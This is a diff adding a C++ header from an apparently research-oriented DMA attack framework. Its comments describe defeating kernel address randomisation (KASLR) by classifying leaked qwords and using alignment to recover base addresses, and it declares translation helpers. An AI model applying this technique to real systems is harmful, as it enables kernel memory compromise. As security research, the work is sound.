@@ -1,0 +1,103 @@
+// KASLR subversion from leaked pointers (§2.4).
+//
+// The attacker classifies leaked qwords by the *fixed* Table-1 ranges, then
+// uses the alignment guarantees to recover the randomized bases:
+//   * kernel-text pointers keep their low 21 bits across boots (2 MiB slide),
+//     so a pointer whose low 21 bits equal init_net's compile-time low bits
+//     pins the image base;
+//   * vmemmap / direct-map bases are 1 GiB aligned, so (for regions smaller
+//     than 1 GiB, which covers our machines) the base is simply the pointer
+//     rounded down to 1 GiB, and the low 30 bits carry the PFN / physical
+//     offset.
+//
+// Everything here runs device-side: inputs are raw qwords the device read
+// through the IOMMU; no kernel secrets are consulted.
+
+#ifndef SPV_ATTACK_KASLR_BREAK_H_
+#define SPV_ATTACK_KASLR_BREAK_H_
+
+#include <cstdint>
+#include <optional>
+#include <span>
+#include <string>
+
+#include "base/status.h"
+#include "base/types.h"
+#include "mem/kernel_layout.h"
+#include "mem/kernel_symbols.h"
+
+namespace spv::attack {
+
+struct KaslrKnowledge {
+  std::optional<uint64_t> text_base;
+  std::optional<uint64_t> vmemmap_base;
+  std::optional<uint64_t> page_offset_base;
+
+  bool complete() const {
+    return text_base.has_value() && vmemmap_base.has_value() && page_offset_base.has_value();
+  }
+
+  // ---- Attacker-side translations (valid once the relevant base is known) ----
+
+  Result<uint64_t> SymbolAddress(uint64_t image_offset) const {
+    if (!text_base.has_value()) {
+      return Unavailable("text base unknown");
+    }
+    return *text_base + image_offset;
+  }
+
+  Result<uint64_t> StructPageToPfn(uint64_t struct_page_ptr) const {
+    if (!vmemmap_base.has_value()) {
+      return Unavailable("vmemmap base unknown");
+    }
+    if (struct_page_ptr < *vmemmap_base) {
+      return InvalidArgument("pointer below vmemmap base");
+    }
+    return (struct_page_ptr - *vmemmap_base) / mem::kStructPageSize;
+  }
+
+  // KVA of the data a frag describes: struct page -> PFN -> direct map.
+  Result<uint64_t> StructPageToDataKva(uint64_t struct_page_ptr, uint32_t page_offset) const {
+    Result<uint64_t> pfn = StructPageToPfn(struct_page_ptr);
+    if (!pfn.ok()) {
+      return pfn.status();
+    }
+    return PfnToKva(*pfn, page_offset);
+  }
+
+  Result<uint64_t> PfnToKva(uint64_t pfn, uint64_t offset = 0) const {
+    if (!page_offset_base.has_value()) {
+      return Unavailable("direct map base unknown");
+    }
+    return *page_offset_base + (pfn << kPageShift) + offset;
+  }
+
+  std::string ToString() const;
+};
+
+class KaslrBreaker {
+ public:
+  struct Stats {
+    uint64_t qwords_seen = 0;
+    uint64_t text_pointers = 0;
+    uint64_t init_net_hits = 0;
+    uint64_t vmemmap_pointers = 0;
+    uint64_t direct_map_pointers = 0;
+  };
+
+  // Feeds leaked qwords (e.g. a harvested page) into the classifier.
+  void Consume(std::span<const uint64_t> qwords);
+
+  const KaslrKnowledge& knowledge() const { return knowledge_; }
+  const Stats& stats() const { return stats_; }
+
+ private:
+  void ConsumeOne(uint64_t value);
+
+  KaslrKnowledge knowledge_;
+  Stats stats_;
+};
+
+}  // namespace spv::attack
+
+#endif  // SPV_ATTACK_KASLR_BREAK_H_
